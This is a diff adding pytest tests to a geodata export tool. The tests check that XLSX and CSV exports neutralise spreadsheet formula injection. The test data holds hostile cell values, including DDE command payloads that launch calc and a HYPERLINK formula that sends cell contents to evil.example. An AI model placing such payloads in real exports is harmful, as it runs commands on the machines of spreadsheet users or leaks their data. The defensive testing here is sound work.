@@ -12,9 +12,11 @@ import pandas as pd
 import pyogrio
 import pytest
 import shapely
+from openpyxl.utils.escape import unescape
 
 from ims_geo import export
 from ims_geo.errors import InputError
+from ims_geo.ingest import read_works
 from ims_geo.schema import validate
 
 
@@ -159,3 +161,116 @@ def test_csv_booleans_and_empty_values(works, tmp_path):
     back = pd.read_csv(path, dtype=str, keep_default_na=False)
     assert back["excavation"].str.lower().tolist() == ["true", "true", "false"]
     assert back["cost_eur"].tolist()[1] == ""
+
+
+# --- exports that cannot attack their reader ------------------------------------------
+#: Text a spreadsheet would run as a formula or follow as a link, and look-alikes.
+HOSTILE = [
+    "=1+2",
+    '=HYPERLINK("http://evil.example/?"&A1,"open")',
+    "+SUM(1,2)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+    "http://evil.example/",
+    "-3.5",
+    "plain text",
+]
+
+
+@pytest.fixture
+def hostile() -> gpd.GeoDataFrame:
+    n = len(HOSTILE)
+    frame = pd.DataFrame(
+        {
+            "work_id": [f"W{i}" for i in range(n)],
+            "org": ["=cmd|' /C calc'!A0"] * n,
+            "title": HOSTILE,
+            "discipline": ["water"] * n,
+            "start_date": ["2026-03-01"] * n,
+            "end_date": ["2026-03-31"] * n,
+            "cost_eur": [-3.5] * n,
+            "=SUM(9)": ["extra"] * n,
+            "note": HOSTILE,
+        }
+    )
+    geoms = [shapely.Point(100 * i, 0) for i in range(n)]
+    return validate(gpd.GeoDataFrame(frame, geometry=geoms, crs=28992)).valid
+
+
+def test_xlsx_writes_every_text_as_text(hostile, tmp_path):
+    path = export.write(hostile, tmp_path / "works.xlsx", layer="works")
+    ws = openpyxl.load_workbook(path)["works"]
+    header = [c.value for c in ws[1]]
+    assert "=SUM(9)" in header
+    assert all(c.data_type == "s" for c in ws[1])
+    note = header.index("note") + 1
+    cells = [ws.cell(row=r, column=note) for r in range(2, len(HOSTILE) + 2)]
+    # control characters are stored as OOXML escapes (_x000D_), which Excel decodes
+    assert [unescape(c.value) for c in cells] == HOSTILE
+    assert [c.data_type for c in cells] == ["s"] * len(HOSTILE)  # never "f" (formula)
+    assert not any(c.hyperlink for c in cells)
+    org = ws.cell(row=2, column=header.index("org") + 1)
+    assert (org.value, org.data_type) == ("=cmd|' /C calc'!A0", "s")
+    cost = ws.cell(row=2, column=header.index("cost_eur") + 1)
+    assert (cost.value, cost.data_type) == (-3.5, "n")
+
+
+def test_xlsx_download_bytes_are_text_too(hostile):
+    book = openpyxl.load_workbook(io.BytesIO(export.to_bytes(hostile, "xlsx", layer="w")))
+    ws = book["w"]
+    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
+
+
+def test_csv_cells_that_would_run_are_neutralised_and_read_back_exactly(hostile, tmp_path):
+    path = export.write(hostile, tmp_path / "works.csv")
+    raw = pd.read_csv(path, dtype=str, keep_default_na=False)
+    # what a spreadsheet opens: a quote before every cell that would be a formula
+    expected = [
+        "'=1+2",
+        '\'=HYPERLINK("http://evil.example/?"&A1,"open")',
+        "'+SUM(1,2)",
+        "'-2+3+cmd|' /C calc'!A0",
+        "'@SUM(A1:A2)",
+        "'\t=1+1",
+        "'\r=1+1",
+        "''=already quoted",
+        "http://evil.example/",
+        "-3.5",
+        "plain text",
+    ]
+    assert raw["note"].tolist() == expected
+    assert set(raw["org"]) == {"'=cmd|' /C calc'!A0"}
+    assert "'=SUM(9)" in raw.columns
+    assert set(raw["cost_eur"]) == {"-3.5"}  # numbers are not mangled
+    # the visible value is kept: undoing the quote gives back every original
+    assert export.csv_text(raw["note"]).tolist() == HOSTILE
+    # and ims-geo import reads its own export back unchanged
+    back = read_works(path, crs=28992).works
+    assert back["note"].tolist() == HOSTILE
+    assert back["title"].tolist() == hostile["title"].tolist()
+    assert set(back["org"]) == {"=cmd|' /C calc'!A0"}
+    assert back["cost_eur"].tolist() == [-3.5] * len(HOSTILE)
+    assert "=SUM(9)" in back.columns
+
+
+def test_csv_neutralising_leaves_numbers_dates_and_empty_cells(tmp_path):
+    frame = pd.DataFrame(
+        {
+            "n": [-3.5, 2.0, None],
+            "i": [-1, 0, 7],
+            "mixed": ["-4", 5, None],
+            "day": [dt.date(2026, 1, 2), None, dt.date(2026, 1, 3)],
+            "t": ["-", "=", ""],
+        }
+    )
+    back = pd.read_csv(export.write(frame, tmp_path / "t.csv"), dtype=str, keep_default_na=False)
+    assert back.to_dict("list") == {
+        "n": ["-3.5", "2.0", ""],
+        "i": ["-1", "0", "7"],
+        "mixed": ["-4", "5", ""],
+        "day": ["2026-01-02", "", "2026-01-03"],
+        "t": ["'-", "'=", ""],
+    }
